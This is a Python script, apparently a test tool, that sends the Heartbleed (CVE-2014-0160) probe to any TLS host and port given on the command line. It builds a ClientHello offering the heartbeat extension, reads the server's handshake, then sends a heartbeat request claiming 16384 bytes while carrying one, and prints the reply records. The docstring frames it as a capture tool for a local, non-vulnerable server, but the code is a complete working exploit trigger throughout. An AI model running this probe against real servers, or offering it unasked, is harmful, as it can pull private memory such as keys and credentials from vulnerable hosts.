#!/usr/bin/env python3
"""heartbleed_client.py HOST PORT - a Heartbleed-style probe against a real TLS server.

Sends a real TLS 1.2 ClientHello that offers the heartbeat extension (RFC 6520, type 15), reads
the server's flight up to ServerHelloDone, then sends a heartbeat request that claims a
16384-byte payload but carries 1 byte (and the 16 bytes of padding RFC 6520 asks for): the
CVE-2014-0160 probe.  Prints what came back.  For test captures only (tests/heartbeat.sh runs
it against a local openssl s_server, which, being OpenSSL 3 without heartbeat support, refuses).
"""
import os
import socket
import struct
import sys


def ext(t, body):
    return struct.pack("!HH", t, len(body)) + body


def client_hello(host, suites=(0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x002F, 0x0035)):
    name = host.encode()
    exts = b"".join([
        ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name),        # server_name
        ext(10, struct.pack("!HHHH", 6, 29, 23, 24)),                           # supported_groups
        ext(11, b"\x01\x00"),                                                   # ec_point_formats
        ext(13, struct.pack("!H", 8) + struct.pack("!HHHH", 0x0401, 0x0501, 0x0804, 0x0805)),
        ext(15, b"\x01"),                                                       # heartbeat: peer_allowed_to_send
        ext(0xFF01, b"\x00"),                                                   # renegotiation_info
    ])
    body = struct.pack("!H", 0x0303) + os.urandom(32) + b"\x00"
    body += struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", s) for s in suites)
    body += b"\x01\x00" + struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def read_records(sock, until_type=14, limit=64):
    """Read records; stop after the handshake message `until_type` or an alert."""
    buf = b""
    hs = b""
    seen = []
    for _ in range(limit):
        while len(buf) < 5:
            d = sock.recv(65536)
            if not d:
                return seen
            buf += d
        ctype, _, length = struct.unpack("!BHH", buf[:5])
        while len(buf) < 5 + length:
            d = sock.recv(65536)
            if not d:
                return seen
            buf += d
        body, buf = buf[5:5 + length], buf[5 + length:]
        seen.append((ctype, len(body), body[:2]))
        if ctype == 21:
            return seen
        if ctype == 22:
            hs += body
            while len(hs) >= 4:
                mlen = int.from_bytes(hs[1:4], "big")
                if len(hs) < 4 + mlen:
                    break
                mtype, hs = hs[0], hs[4 + mlen:]
                if mtype == until_type:
                    return seen
    return seen


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(client_hello("localhost"))
    flight = read_records(s)
    print("server flight:", [(t, n) for t, n, _ in flight])
    probe = b"\x01" + struct.pack("!H", 16384) + b"A" + b"\x00" * 16
    s.sendall(b"\x18\x03\x03" + struct.pack("!H", len(probe)) + probe)
    answer = read_records(s, until_type=-1, limit=4)
    print("answer:", [(t, n, b.hex()) for t, n, b in answer])
    s.close()


if __name__ == "__main__":
    main()
